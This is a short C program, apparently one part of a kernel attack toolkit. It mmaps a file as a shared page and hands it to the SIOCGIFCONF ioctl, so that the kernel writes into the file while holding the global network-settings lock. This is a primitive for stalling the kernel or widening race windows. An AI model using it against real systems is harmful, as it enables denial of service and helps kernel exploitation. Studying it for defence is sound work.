/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * ifconf.c: has the kernel write into FILE while it holds the lock of all network settings: a list of links, into a page that has to be
 * read first.
 *
 *   ifconf FILE
 */
#include "attack.h"
#include <fcntl.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define PAGE 4096

int main(int argc, char **argv) {
        struct ifconf links = { .ifc_len = PAGE };
        int fd = argc == 2 ? open(argv[1], O_RDWR | O_CLOEXEC) : -1;

        if (fd < 0) {
                broken("ifconf FILE");
        }
        links.ifc_buf = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (links.ifc_buf == MAP_FAILED) {
                broken("mmap");
        }
        if (ioctl(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), SIOCGIFCONF, &links) < 0) {
                broken("SIOCGIFCONF");
        }
        say("%zu links", (size_t) links.ifc_len / sizeof(struct ifreq));
        return 0;
}
